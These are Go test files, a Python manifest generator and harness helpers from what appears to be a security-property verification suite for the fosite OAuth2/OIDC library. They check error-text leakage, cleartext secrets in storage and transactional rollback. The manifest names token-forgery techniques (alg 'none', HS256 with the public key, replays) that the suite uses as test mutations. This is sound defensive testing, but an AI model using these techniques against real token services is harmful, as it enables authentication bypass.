				return authzOut(w.Authorize(url.Values{"client_id": {"A"}, "response_type": {"code"}, "state": {"state-0123456789"}, "nonce": {"nonce-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"openid a"}, "request_uri": {"https://rp.example/request.jwt"}}, h.Consent{}))
			}
		case "jwks_uri-fetch-fails":
			w.DocErr["https://rp.example/jwks/J"] = fetchErr
			final = func() (string, []byte, http.Header, string) {
				now := h.Now()
				a := h.MustSignJWT(h.RSAKey(1), "RS256", "kid-1", map[string]interface{}{"iss": "J", "sub": "J", "aud": h.TokenURL, "jti": "jti-" + canary, "exp": now.Add(300e9).Unix(), "iat": now.Unix()})
				return tokenOut(w.Token(url.Values{"grant_type": {"client_credentials"}, "scope": {"a"}, "client_assertion_type": {assertionType}, "client_assertion": {a}}, h.Auth{}, h.TokenOpts{}))
			}
		default:
			final = func() (string, []byte, http.Header, string) {
				return tokenOut(w.Token(url.Values{"grant_type": {"client_credentials"}, "scope": {"a"}}, auth, h.TokenOpts{}))
			}
		}
		hits := 0
		if strings.HasSuffix(scenario, "-fetch-fails") {
			hits = 1 // the failing fetch is the injected fault of these scenarios
		}
		w.W.Before = func(c *h.Call) error {
			if c.Method == failing {
				hits++
				return storageErr
			}
			return nil
		}
		answer, body, hdr, loc := final()
		w.W.Before = nil
		if w.Tx != nil && w.Tx.InTx() {
			w.Tx.Abort()
		}
		h.Case(fmt.Sprintf("C20/storage-error/%s/%s/%s/%v/%v", scenario, failing, store, expose, legacy), hits > 0, func() any {
			return map[string]any{"part": "A3", "scenario": scenario, "failing_storage_method": failing, "store": store, "debug_exposed": expose, "legacy_format": legacy, "answer": answer, "fault_hit": hits}
		})
		if hits > 0 {
			h.Label("A3/fault-hit/" + scenario)
		}
		if expose {
			return
		}
		var all strings.Builder
		all.Write(body)
		all.WriteString(loc)
		for k, v := range hdr {
			all.WriteString(k + ": " + strings.Join(v, ",") + "\n")
		}
		if dec, err := url.QueryUnescape(all.String()); err == nil {
			all.WriteString(dec)
		}
		if strings.Contains(all.String(), canary) && strings.HasSuffix(scenario, "-fetch-fails") {
			h.Violate(rt, "C20/fetch-error-text-in-response", "scenario %s (debug exposure off, legacy=%v): the text of the failed outbound fetch reached the client\n answer: %s\n body: %.700s\n location: %.300s", scenario, legacy, answer, body, loc)
		}
		if strings.Contains(all.String(), canary) {
			h.Violate(rt, "C20/storage-error-text-in-response", "scenario %s with %s failing (debug exposure off, legacy=%v, store %s): the storage error text reached the client\n answer: %s\n body: %.600s\n location: %.300s", scenario, failing, legacy, store, answer, body, loc)
		}
	})
	h.MarkCompleted()
}

// ---------------------------------------------------------------------------
// Part B: nothing handed to the storage layer is a usable secret in cleartext.

const fpOIDCKey = "C20/storage/oidc-session-keyed-by-complete-authorization-code"

// probeOIDCKey: deterministic reproduction of the listed known finding.
func probeOIDCKey() bool {
	h.ClockReset()
	w := h.NewWorld(h.Spec{RefreshScopes: []string{}})
	cl := stdClient("A", false)
	cl.Secret = w.HashSecret("sA")
	w.AddClient(cl, "sA")
	w.Record = true
	ar := w.Authorize(url.Values{"client_id": {"A"}, "response_type": {"code"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"openid"}}, h.Consent{})
	for _, c := range w.Calls {
		if c.Method == "CreateOpenIDConnectSession" && ar.Code != "" && c.Key == ar.Code {
			return true
		}
	}
	return false
}

func TestC20_StorageSecrets(t *testing.T) {
	h.SetProperty("C20")
	selfTest(t)
	h.Activate(fpOIDCKey, probeOIDCKey)
	rapid.Check(t, func(rt *rapid.T) {
		h.ClockReset()
		store := rapid.SampledFrom([]string{"mem", "tx"}).Draw(rt, "store")
		jwtAccess := rapid.Bool().Draw(rt, "jwtAccess")
		// the operator may name the form values the code flow keeps with a stored request (the built-in list, repeated
		// or extended): that list is about the authorization request, where there is no code yet
		keep := rapid.SampledFrom([][]string{nil, nil, {"code", "redirect_uri"}, {"redirect_uri", "code", "resource"}}).Draw(rt, "sanitationWhiteList")
		w := h.NewWorld(h.Spec{Store: store, JWTAccess: jwtAccess, RefreshScopes: []string{}, Mutate: func(c *fosite.Config) {
			c.SanitationWhiteList = keep
		}})
		if keep != nil {
			h.Label("B/operator-sanitation-whitelist")
		}
		tag := rapid.StringMatching("[a-z]{8}").Draw(rt, "tag")
		secrets := map[string]string{}
		clientSecret := "CLIENTSECRET-" + tag
		password := "USERPASSWORD-" + tag
		secrets["client_secret"] = clientSecret
		secrets["user_password"] = password
		authMethod := rapid.SampledFrom([]string{"client_secret_basic", "client_secret_post", "private_key_jwt"}).Draw(rt, "authMethod")
		cl := stdClient("A", false)
		cl.Secret = w.HashSecret(clientSecret)
		cl.TokenEndpointAuthMethod = authMethod
		cl.TokenEndpointAuthSigningAlgorithm = "RS256"
		cl.JSONWebKeys = &jose.JSONWebKeySet{Keys: []jose.JSONWebKey{h.PublicJWK(h.RSAKey(1), "kid-1", "RS256")}}
		w.AddClient(cl, clientSecret)
		w.AddUser("peter", password)
		nA := 0
		// a client may send more credential parameters than its method uses (a secret next to an assertion, an empty
		// client_assertion_type next to a secret): none of them may be persisted
		redundant := rapid.IntRange(0, 2).Draw(rt, "redundantCredentialParameters") == 0
		if redundant {
			h.Label("B/redundant-credential-parameters")
		}
		creds := func(f url.Values) (url.Values, h.Auth) {
			switch authMethod {
			case "client_secret_post":
				f.Set("client_id", "A")
				f.Set("client_secret", clientSecret)
				if redundant {
					f.Set("client_assertion_type", "")
				}
				return f, h.Auth{}
			case "private_key_jwt":
				if redundant {
					f.Set("client_id", "A")
					f.Set("client_secret", clientSecret)
				}
				nA++
				a := h.MustSignJWT(h.RSAKey(1), "RS256", "kid-1", map[string]interface{}{"iss": "A", "sub": "A", "aud": h.TokenURL, "jti": fmt.Sprintf("%s-%d", tag, nA), "exp": h.Now().Add(300e9).Unix()})
				secrets[fmt.Sprintf("client_assertion_%d", nA)] = a
				f.Set("client_assertion_type", assertionType)
				f.Set("client_assertion", a)
				return f, h.Auth{}
			}
			if redundant {
				f.Set("client_assertion_type", "")
			}
			return f, h.Auth{BasicUser: "A", BasicPass: clientSecret}
		}
		w.Record = true
		learn := func(kind, v string) {
			if v != "" {
				secrets[fmt.Sprintf("%s#%d", kind, len(secrets))] = v
			}
		}
		token := func(f url.Values) *h.TokenResult {
			ff, a := creds(f)
			tr := w.Token(ff, a, h.TokenOpts{Session: h.NewSess("")})
			learn("access_token", tr.Access)
			learn("refresh_token", tr.Refresh)
			return tr
		}
		nSteps := rapid.IntRange(1, 5).Draw(rt, "steps")
		var flowsDone []string
		var refresh string
		var usedRefresh, usedCodes []string
		for i := 0; i < nSteps; i++ {
			flow := rapid.SampledFrom([]string{"code-pkce", "hybrid", "implicit", "password", "client_credentials", "device", "par", "refresh", "refresh", "replay-refresh", "replay-code", "revoke", "introspect"}).Draw(rt, "flow")
			flowsDone = append(flowsDone, flow)
			switch flow {
			case "code-pkce", "hybrid", "par":
				verifier := "VERIFIER-" + tag + strings.Repeat("v", 40)
				secrets["code_verifier"] = verifier
				rtype := "code"
				if flow == "hybrid" {
					rtype = "code id_token token"
				}
				q := url.Values{"client_id": {"A"}, "response_type": {rtype}, "state": {"state-0123456789"}, "nonce": {"nonce-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"openid offline a"},
					"code_challenge": {h.PKCES256(verifier)}, "code_challenge_method": {"S256"}}
				var ar *h.AuthzResult
				if flow == "par" {
					f, a := creds(q)
					pr := w.PAR(f, a)
					if pr.RequestURI == "" {
						rt.Fatalf("VERIF-INFRA: PAR failed: %v %s", pr.Err, pr.Err.Hint)
					}
					ar = w.Authorize(url.Values{"client_id": {"A"}, "request_uri": {pr.RequestURI}}, h.Consent{})
				} else {
					ar = w.Authorize(q, h.Consent{})
				}
				learn("authorization_code", ar.Code)
				learn("access_token", ar.Access)
				if ar.Code != "" {
					tr := token(url.Values{"grant_type": {"authorization_code"}, "code": {ar.Code}, "redirect_uri": {redirectURI}, "code_verifier": {verifier}})
					if tr.Refresh != "" {
						refresh = tr.Refresh
					}
					usedCodes = append(usedCodes, ar.Code)
				}
			case "implicit":
				ar := w.Authorize(url.Values{"client_id": {"A"}, "response_type": {"token"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"a"}}, h.Consent{})
				learn("access_token", ar.Access)
			case "password":
				tr := token(url.Values{"grant_type": {"password"}, "username": {"peter"}, "password": {password}, "scope": {"offline a"}})
				if tr.Refresh != "" {
					refresh = tr.Refresh
				}
			case "client_credentials":
				token(url.Values{"grant_type": {"client_credentials"}, "scope": {"a"}})
			case "device":
				f, a := creds(url.Values{"client_id": {"A"}, "scope": {"openid offline a"}})
				dr := w.DeviceAuth(f, a, h.Consent{})
				learn("device_code", dr.DeviceCode)
				if dr.DeviceCode != "" {
					w.DeviceDecide(dr.UserCode, true, h.Consent{Session: h.NewSess("user-1")}, dr.DeviceCode)
					tr := token(url.Values{"grant_type": {deviceGrant}, "device_code": {dr.DeviceCode}})
					if tr.Refresh != "" {
						refresh = tr.Refresh
					}
				}
			case "refresh":
				if refresh != "" {
					tr := token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {refresh}})
					usedRefresh = append(usedRefresh, refresh)
					refresh = tr.Refresh
				}
			case "replay-refresh":
				// an already rotated refresh token is presented again (reuse detection path)
				if len(usedRefresh) > 0 {
					token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {usedRefresh[len(usedRefresh)-1]}})
					refresh = ""
				}
			case "replay-code":
				if len(usedCodes) > 0 {
					token(url.Values{"grant_type": {"authorization_code"}, "code": {usedCodes[len(usedCodes)-1]}, "redirect_uri": {redirectURI}})
				}
			case "revoke":
				if refresh != "" {
					f, a := creds(url.Values{"token": {refresh}})
					w.Revoke(f, a)
					refresh = ""
				}
			case "introspect":
				if refresh != "" {
					w.IntrospectEndpoint(url.Values{"token": {refresh}}, h.Auth{BasicUser: "A", BasicPass: clientSecret})
				}
			}
		}
		w.Record = false
		submitted := 0
		for range secrets {
			submitted++
		}
		h.Case(fmt.Sprintf("C20/B/%s/%v/%s/%v", store, jwtAccess, authMethod, flowsDone), true, func() any {
			return map[string]any{"part": "B", "store": store, "jwt_access_tokens": jwtAccess, "client_auth": authMethod, "flows": flowsDone, "storage_calls": len(w.Calls), "recognisable_secrets": submitted}
		})
		for _, f := range flowsDone {
			h.Label("B/flow=" + f)
		}
		// scan every storage call
		for _, c := range w.Calls {
			for kind, s := range secrets {
				kind = strings.SplitN(kind, "#", 2)[0]
				if len(s) < 8 {
					continue
				}
				keyHit := c.Key == s || c.Key2 == s || (len(c.Key) > 0 && strings.Contains(c.Key, s)) || (len(c.Key2) > 0 && strings.Contains(c.Key2, s))
				if keyHit {
					if strings.Contains(c.Method, "OpenIDConnectSession") && kind == "authorization_code" {
						if h.Violate(rt, fpOIDCKey, "%s was called with the complete authorization code as key", c.Method) {
							continue
						}
					}
					h.Violate(rt, fmt.Sprintf("C20/storage/secret-as-key/%s/%s", c.Method, kind), "%s was called with a cleartext %s as key argument (flows %v, client auth %s)", c.Method, kind, flowsDone, authMethod)
				}
				for fk, vs := range c.Form {
					for _, v := range vs {
						if v == s || strings.Contains(v, s) {
							h.Violate(rt, fmt.Sprintf("C20/storage/secret-in-stored-form/%s", c.Method), "%s stored a request whose form field %q holds a cleartext %s (flows %v, client auth %s)", c.Method, fk, kind, flowsDone, authMethod)
						}
					}
				}
			}
		}
	})
	h.MarkCompleted()
}
