#!/usr/bin/env python3
"""Regenerates /verif/MANIFEST.json from the table below (kept in one place so that it stays valid)."""
import json, sys

CLAIMED = {
 "C06": dict(level="exploration", technique="property-based testing (rapid) with a MAC-recomputing reference (differential, both directions), end-to-end token mutation, JWT manipulation against stateful and stateless introspection, minting statistics; native fuzzing of HMAC validation in the thorough tier",
   text="Generated secret configurations, minting-secret relations and named single edits of tokens are decided by a reference that recomputes the MAC over the decoded parts; every credential kind is also mutated end to end and JWT access tokens are manipulated (none, HS256 with the public key, re-signing, part swaps). Minting is sampled (thousands per kind) for distinctness, length and bit balance.",
   note="Trusted: crypto/hmac, encoding/base64, go-jose. Non-canonical base64 that decodes to identical bytes and the JSON serialisation of an unmodified JWS are not forgeries (unspecified). Entropy is checked as length + distinctness + bit balance, not with a statistical suite.", ref="DESIGN.md 4 C06"),
 "C10": dict(level="exploration", technique="property-based testing (rapid) over registration x transport x secret relation x endpoint with an independently computed necessary condition and a storage recorder",
   text="Requests that are valid except for client authentication are generated for every endpoint; acceptance without proof (valid secret through a permitted transport, or valid assertion) is a violation, refused requests must be invalid_client / invalid_request and must not touch code/token records, canonical valid credentials must pass. Real bcrypt; some requests arrive with a context that has already ended (they may fail, they prove nothing).",
   note="Trusted: the harness' reading of 'permitted transport' per token_endpoint_auth_method (DESIGN.md 4 C10). Mixed presentations (right secret in one transport, wrong in another) are only constrained by the necessary condition.", ref="DESIGN.md 4 C10"),
 "C11": dict(level="exploration", technique="property-based testing (rapid) with a component grammar for registered URIs and named near-miss edits, oracle on the written response bytes; native fuzzing of the requested redirect_uri in the thorough tier",
   text="Any Location / form action written by the authorization endpoint (success, redirected error, after PAR) is checked against the registered set (string identity or the loopback rule via net/netip); requests whose redirect_uri does not qualify per an independent reference must not be redirected.",
   note="Registered URIs are generated in canonical form (operator input); requested URIs are arbitrary. Percent-encoded path variants, scheme/host letter case on loopback and exotic strings are unspecified for the 'qualifies' direction (the output rule is always asserted). form_post with a non-http(s) scheme renders html/template's inert #ZgotmplZ.", ref="DESIGN.md 4 C11"),
 "C13": dict(level="exploration", technique="property-based testing (rapid) over registration x request with an independently computed list of unmet conditions",
   text="Acceptance by the authorization endpoint implies every condition of the statement (computed independently); request-object parameters are honoured only if verifiable; tokens never appear in a Location query; state is echoed byte-identical.",
   note="Duplicate / case-variant response_type members are unspecified. 'code id_token' for a client without the implicit grant is logged, not asserted.", ref="DESIGN.md 4 C13"),
 "C14": dict(level="exploration", technique="property-based testing (rapid): every ID token in every response is verified with the public key and compared with independently computed bindings",
   text="All OpenID Connect flows x key types x session and request shapes; signature, alg, aud, sub, iss, nonce, exp window, at_hash / c_hash (left-half hash by alg) and the stated blockers of issuance. A second job addresses the ID token strategy directly (GenerateIDToken over generated sessions and request forms, every grant type): max_age, prompt and id_token_hint (other subject, case variant, expired, garbage, foreign key) the session does not satisfy must make issuance fail outside refreshes.",
   note="Conditional oracle: a refusal is always acceptable. c_hash compared only when a code is delivered in the same response. Key/header combinations limited to the documented ones.", ref="DESIGN.md 4 C14"),
 "C15": dict(level="exploration", technique="property-based testing (rapid) over claim/header/key defects and short histories, plus exhaustive enumeration of storage-step interleavings of simultaneous presentations (harness-owned scheduler) and free-running simultaneous presentations with real parallelism",
   text="Assertions with 0-2 named defects must be refused whenever the statement gives a reason; defect-free ones accepted; replays refused; 2 simultaneous presentations are run under every interleaving of their storage steps (3: bounded DFS): exactly one succeeds; 6 goroutines presenting one fresh assertion at the same instant (token endpoint, JWT-bearer grant, the store itself) for thousands of rounds: at most one accepted. Client assertions are presented at the token, PAR, revocation and device-authorization endpoints.",
   note="Atomicity inside a single storage call is only sampled (free-running job). Reuse of a jti after the first assertion expired is unspecified. The error class of a stale / premature assertion is not asserted.", ref="DESIGN.md 4 C15"),
 "C18": dict(level="fault_enumeration", technique="exhaustive single-fault enumeration over recorded storage-call lists (every index x failure kind x store x flow) with crash injection and a transactional store with real rollback; sampled fault pairs (rapid)",
   text="Every storage call of 14 flows is failed in 5 ways on both stores; refused responses carry nothing, transaction grammar (the transaction travels in the context BeginTX returns: commit, rollback and every write in between must carry it), table snapshots equal after in-transaction failures, legitimate retry succeeds, attack step stays refused, single-use credentials exchanged at most once, a revocation answered with success has left no token of the grant active.",
   note="not-found / inactive answers on read calls are legitimate store answers, not failures (no refusal demanded). Trusted: harness TxStore and fault wrapper.", ref="DESIGN.md 4 C18"),
 "C19": dict(level="exploration", technique="porcupine linearizability checking of generated concurrent store histories; exhaustive storage-step interleavings of API operation pairs (harness-owned scheduler); free-running stress (with bursts of goroutines presenting the same credential) and an atomicity hammer under the Go race detector; lock-order tracking (lockdep) injected behind sync.Mutex / sync.RWMutex by the build overlay",
   text="Three engines: store linearizability against a sequential specification, all interleavings of two operations at storage-call granularity, and 8-goroutine stress under -race with populated and default-constructed configurations. Every job also feeds a lock-order graph: two sequential calls that take two locks in opposite order are reported as a potential deadlock without the deadlock having to happen.",
   note="A silent race detector is evidence, not proof; schedules finer than a storage call are only sampled.", ref="DESIGN.md 4 C19"),
 "C20": dict(level="exploration", technique="property-based testing (rapid) of every error writer with hostile text and canaries (round-trip through JSON / URL / HTML5 parsers), header checks on success responses, storage recorder scan for recognisable secrets over generated flow sequences",
   text="Error responses are parsed back and compared; debug canary only with exposure on; cache headers everywhere; no storage key or stored form value equals or contains a submitted secret or a complete code/token.",
   note="One listed known finding (OIDC session keyed by the complete authorization code) is excluded by fingerprint while its probe reproduces.", ref="DESIGN.md 4 C20, 5"),

 "C01": dict(level="exploration", technique="stateful property-based testing (rapid state machine) against a reference model; per-step introspection invariant",
   text="Model-based generated histories (authorize/redeem/refresh/revoke/advance over 3 clients, 2 stores, HMAC/JWT, 3 refresh-scope configurations) with a three-valued reference model; every step is followed by introspection of every token ever received. Held on everything explored; not a proof.",
   note="Trusted: the reference model (transcription of the statement, DESIGN.md app. C), the harness integrator, rapid. The hybrid authorization-endpoint access token is unspecified after a replay.", ref="DESIGN.md 3, 4 C01"),
 "C02": dict(level="exploration", technique="stateful property-based testing (rapid state machine) with storage recorder against a reference model",
   text="Generated sequences of wrong and right redemption attempts per code (client, redirect_uri spelling, smuggled parameters, age) inside longer histories; refused attempts must issue nothing (storage recorder), leave the code usable, and tokens must carry exactly the consented grant. Some redemptions run while a look-up of the code fails in the store (plain error or fosite.ErrSerializationFailure); some worlds use fosite's own session types.",
   note="Trusted: reference model, recorder wrapper. redirect_uri omitted at authorization => no binding expected; SanitationWhiteList left at default (C20 varies it).", ref="DESIGN.md 4 C02"),
 "C03": dict(level="exploration", technique="property-based testing (rapid): generated attempt sequences against an RFC 7636 reference predicate",
   text="Every attempt in a generated sequence is decided by an independent reference (well-formedness + S256/plain transformation + enforcement policy), regardless of earlier attempts and of injected failures of the PKCE lookup; both directions asserted (forbidden attempts refused, the decisive correct attempt accepted).",
   note="Trusted: refspec PKCE predicate. Enforcement may be switched on after the code was issued (operator action).", ref="DESIGN.md 4 C03"),
 "C04": dict(level="exploration", technique="stateful property-based testing (rapid state machine) against a reference model; per-step introspection invariant",
   text="Generated refresh chains (depth up to ~10) over grants of code/hybrid/password/device origin with replays of any generation, revocations and other families in between; rotation and family-kill expectations from the statement, other grants must be unaffected.",
   note="Trusted: reference model. Family state after presenting a revoked (not used) refresh token, or with overlapping refusal reasons, is unspecified.", ref="DESIGN.md 4 C04"),
 "C05": dict(level="exploration", technique="stateful property-based testing (rapid state machine) with client-registration edits against a reference model",
   text="Generated grants x smuggled refresh parameters x presenting client x post-issuance registration edits x refresh-scope configuration; issuance rule of refresh tokens per flow and confinement of refreshed tokens to the original grant.",
   note="Trusted: reference model (issuance rule transcribed from the statement).", ref="DESIGN.md 4 C05"),
 "C07": dict(level="exploration", technique="stateful property-based testing with a virtual clock (build-time overlay) against advertised lifetimes",
   text="Short generated lifetimes and time advances around every expiry the model knows; each credential kind is presented at its endpoint and introspected on both sides of the expiry advertised in the response (+-2 s margin).",
   note="Trusted: the syntactic clock overlay (self-tested). Refusal class for expired codes/refresh tokens is not asserted (not stated by the property).", ref="DESIGN.md 2.2, 4 C07"),
 "C08": dict(level="exploration", technique="stateful property-based testing (rapid state machine) against a reference model; per-step introspection invariant",
   text="Generated revocations at every history position (token kind incl. hybrid authorization-endpoint token, hint, caller, token state); effect, completeness (token issued alongside) and owner restriction are compared with the model after every step. Histories include two refreshes of one token interleaved at storage-call granularity; an accepted owner revocation makes the token inactive whatever its state was.",
   note="Trusted: reference model. Siblings other than the token issued alongside are unspecified; revoking an expired token leaves its sibling unspecified.", ref="DESIGN.md 4 C08"),
 "C09": dict(level="exploration", technique="stateful property-based testing: the per-step introspection invariant plus generated endpoint queries (caller credentials, hints, required scopes, token mutants)",
   text="Every token ever seen is introspected after every step of arbitrary histories and compared (active flag, kind, client, subject, scopes, audience, expiry) with the model; the endpoint is queried with every caller credential class (secrets right and wrong, bearer tokens of every state, a public client merely named).",
   note="Trusted: reference model. Stateless JWT introspector not in scope of revocation. Refresh-token exp not compared.", ref="DESIGN.md 4 C09"),
 "C16": dict(level="exploration", technique="stateful property-based testing (rapid state machine) on the reference store and a contract-following store",
   text="Generated device-flow histories (authorization, decision, polling by right/wrong client, replay, time advance); single-reason refusal classes, at-most-once, revocation on replay with the contract-following store (also while the access-token revocation fails: refresh tokens still die), code distinctness.",
   note="Trusted: reference model, the harness TxStore (documented storage contract) and integrator-side user decision.", ref="DESIGN.md 4 C16"),
 "C17": dict(level="exploration", technique="stateful property-based testing (rapid state machine) against a reference model",
   text="Generated push/use histories (right/wrong client, twice, after expiry, conflicting query parameters); one-time use, client binding, expiry and authority of the pushed values.",
   note="Trusted: reference model. A request_uri presented by a foreign client is unspecified afterwards.", ref="DESIGN.md 4 C17"),

 "C12": dict(level="exploration",
   technique="property-based testing (rapid) + exhaustive enumeration of the scope/audience pair domain against README-derived reference matchers; flow confinement by generated requests; native fuzzing of the strategies in the thorough tier",
   text="Generated-input search against independent reference matchers written from the README wording: exhaustive over all single-entry scope pairs up to 4/5 segments of {a,b,ab,*,''} and over an audience component table, random multi-entry haystacks, and every flow driven end-to-end with requests around the registration. Exhaustive only for the stated finite domain; elsewhere 'held on everything explored'.",
   note="Trusted: refspec (the documentation made executable), rapid, the harness world. Empty tail segments under a trailing wildcard and host/scheme letter case are treated as unspecified.",
   ref="DESIGN.md 4 C12"),
}
NOT_APPLICABLE = {}

def main():
    checks = []
    for pid in sorted(CLAIMED):
        c = CLAIMED[pid]
        checks.append({
            "property_id": pid,
            "quick_cmd": f"./check run {pid} --tier quick",
            "thorough_cmd": f"./check run {pid} --tier thorough",
            "evidence_file": f"/verif/evidence/{pid}.json",
            "replay_cmd_template": f"./check replay {pid} {{path}}",
            "engine": "verifharness",
            "level_claimed": {"category": c["level"], "text": c["text"], "design_ref": c["ref"]},
            "level_note": c["note"],
            "technique": c["technique"],
        })
    allp = [json.loads(l)["id"] for l in open("/verif/properties.jsonl")]
    na = []
    for pid in allp:
        if pid not in CLAIMED:
            na.append({"property_id": pid, "reason": NOT_APPLICABLE.get(pid, "check not built yet in this revision (property-based check planned, see DESIGN.md 4)")})
    m = {
        "version": 1,
        "setup_cmd": "./check setup",
        "hooks": {
            "guard": "none: no source hook is committed to /repo; the only instrumentation is a build-time `go test -overlay` (virtual clock) regenerated from /repo's working tree by harness/cmd/instr on every run",
            "enable": "go test -overlay <scratch>/overlay.json (done by ./check run); without the overlay the repository builds and tests exactly as upstream",
            "baseline_off_cmd": "cd /repo && GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off go test -vet=off -count=1 -timeout 25m ./...",
            "source_commits": [],
            "add_only": True,
        },
        "engines": [{"name": "verifharness", "path": "/verif/harness", "serves_properties": sorted(CLAIMED), "kind_free_text": "Go module: in-process fosite server driven through its public API, rapid property tests / state machines, exhaustive enumerations, native fuzz targets, -race stress; driver cmd/check shards, merges evidence, handles known findings"}],
        "checks": checks,
        "not_applicable": na,
        "notes": "Exit codes: 0 held, 1 VIOLATION line printed, 2 infrastructure problem (never a violation). VERIF_SEED selects the rapid PRNG values of every shard. Known findings: /verif/known_findings.json.",
    }
    json.dump(m, open("/verif/MANIFEST.json", "w"), indent=1)
    print("claimed:", sorted(CLAIMED), "not claimed:", [x["property_id"] for x in na])

main()
