package h

import (
	"bytes"
	"net/url"

	"golang.org/x/net/html"
)

// parseFormPostHTML parses the form_post page with a real HTML5 parser and
// returns the (first) form's action and its hidden inputs.
func parseFormPostHTML(body []byte) (string, url.Values) {
	vals := url.Values{}
	action := ""
	doc, err := html.Parse(bytes.NewReader(body))
	if err != nil {
		return "", vals
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			switch n.Data {
			case "form":
				for _, a := range n.Attr {
					if a.Key == "action" && action == "" {
						action = a.Val
					}
				}
			case "input":
				name, val := "", ""
				for _, a := range n.Attr {
					if a.Key == "name" {
						name = a.Val
					}
					if a.Key == "value" {
						val = a.Val
					}
				}
				if name != "" {
					vals.Add(name, val)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return action, vals
}

// CountHTMLElements counts elements by tag name (used to detect injected markup).
func CountHTMLElements(body []byte) map[string]int {
	out := map[string]int{}
	doc, err := html.Parse(bytes.NewReader(body))
	if err != nil {
		return out
	}
	var walk func(n *html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			out[n.Data]++
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	walk(doc)
	return out
}
