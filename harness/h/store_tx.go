package h

import (
	"context"
	"errors"
	"net/url"
	"sync"
	"time"

	"github.com/ory/fosite"
	"github.com/ory/fosite/storage"
)

// TxStore is a harness store with database semantics that follows the
// documented storage contracts (handler/*/storage.go, client_manager.go):
// values are copied on write and on read, clients are re-hydrated by id,
// BeginTX/Commit/Rollback really roll back, invalidated codes / device codes
// keep their row and are returned together with ErrInvalidated…, revocation by
// request id acts on every row of that request id (as a SQL store does).
// Clients, users and RFC 7523 issuer keys are delegated to an embedded
// MemoryStore (read-only tables as far as fosite is concerned).
//
// It is harness code: it is what "a transactional store" (C18) and "a store
// that follows the documented contract" (C16) mean in the checks.
type TxStore struct {
	*storage.MemoryStore // clients, users, issuer keys only

	mu       sync.Mutex
	tb       txTables
	snp      *txTables // non-nil while a transaction is open
	inRotate bool      // RotateRefreshToken is running its two primitive steps
	tok      *int      // identity of the open transaction, carried by the context BeginTX returns
	// TxErrors counts protocol errors (commit/rollback without begin or with a foreign context, nested begin).
	TxErrors []string
	// CtxErrors lists writes issued while a transaction was open with a context that does not carry it.
	CtxErrors []string
	// NotFoundOnEmptyRevoke: RevokeAccessToken / RevokeRefreshToken answer fosite.ErrNotFound when no row of the request
	// id exists (what SQL-backed stores do; every caller in fosite tolerates it).
	NotFoundOnEmptyRevoke bool
}

type txCode struct {
	active bool
	req    *fosite.Request
}
type txRefresh struct {
	active bool
	asig   string
	req    *fosite.Request
}
type txDevice struct {
	usig        string
	invalidated bool
	req         *fosite.DeviceRequest
}

type txTables struct {
	codes   map[string]txCode
	access  map[string]*fosite.Request
	refresh map[string]txRefresh
	oidc    map[string]*fosite.Request
	pkce    map[string]*fosite.Request
	device  map[string]txDevice // by device-code signature
	user    map[string]string   // user-code signature -> device-code signature
	par     map[string]*fosite.AuthorizeRequest
	jti     map[string]time.Time
}

func newTxTables() txTables {
	return txTables{
		codes: map[string]txCode{}, access: map[string]*fosite.Request{}, refresh: map[string]txRefresh{},
		oidc: map[string]*fosite.Request{}, pkce: map[string]*fosite.Request{}, device: map[string]txDevice{},
		user: map[string]string{}, par: map[string]*fosite.AuthorizeRequest{}, jti: map[string]time.Time{},
	}
}

func cp[K comparable, V any](m map[K]V) map[K]V {
	n := make(map[K]V, len(m))
	for k, v := range m {
		n[k] = v
	}
	return n
}

func (t txTables) clone() txTables {
	return txTables{codes: cp(t.codes), access: cp(t.access), refresh: cp(t.refresh), oidc: cp(t.oidc), pkce: cp(t.pkce),
		device: cp(t.device), user: cp(t.user), par: cp(t.par), jti: cp(t.jti)}
}

func NewTxStore(clients *storage.MemoryStore) *TxStore {
	return &TxStore{MemoryStore: clients, tb: newTxTables()}
}

var _ FullStore = (*TxStore)(nil)
var _ storage.Transactional = (*TxStore)(nil)

func cloneArgs(a fosite.Arguments) fosite.Arguments {
	if a == nil {
		return nil
	}
	return append(fosite.Arguments{}, a...)
}

func cloneForm(f url.Values) url.Values {
	n := url.Values{}
	for k, v := range f {
		n[k] = append([]string(nil), v...)
	}
	return n
}

// CloneRequest makes an independent copy of a stored request (the client
// pointer is kept: client rows live in their own table).
func CloneRequest(r fosite.Requester) *fosite.Request {
	n := &fosite.Request{
		ID: r.GetID(), RequestedAt: r.GetRequestedAt(), Client: r.GetClient(),
		RequestedScope: cloneArgs(r.GetRequestedScopes()), GrantedScope: cloneArgs(r.GetGrantedScopes()),
		RequestedAudience: cloneArgs(r.GetRequestedAudience()), GrantedAudience: cloneArgs(r.GetGrantedAudience()),
		Form: cloneForm(r.GetRequestForm()),
	}
	if l, ok := r.(interface{ GetLang() interface{} }); ok {
		_ = l
	}
	if s := r.GetSession(); s != nil {
		n.Session = s.Clone()
	}
	return n
}

func (s *TxStore) hydrate(r *fosite.Request) *fosite.Request {
	n := CloneRequest(r)
	if n.Client != nil {
		if c, err := s.MemoryStore.GetClient(context.Background(), n.Client.GetID()); err == nil {
			n.Client = c
		}
	}
	return n
}

// ---- transactions

type txKey struct{}

// The transaction travels in the context, as it does in every SQL-backed fosite store: BeginTX returns a context
// that carries it, and Commit / Rollback act on the transaction found in *their* context. A Commit or Rollback with a
// context that does not carry the open transaction fails and leaves it open.
func (s *TxStore) BeginTX(ctx context.Context) (context.Context, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.snp != nil {
		s.TxErrors = append(s.TxErrors, "BeginTX while a transaction is open")
		return ctx, errors.New("txstore: nested transaction")
	}
	c := s.tb.clone()
	s.snp = &c
	s.tok = new(int)
	return context.WithValue(ctx, txKey{}, s.tok), nil
}

func (s *TxStore) carries(ctx context.Context) bool {
	t, _ := ctx.Value(txKey{}).(*int)
	return t != nil && t == s.tok
}

// noteCtx records a write that is issued while a transaction is open but with a context that does not carry it
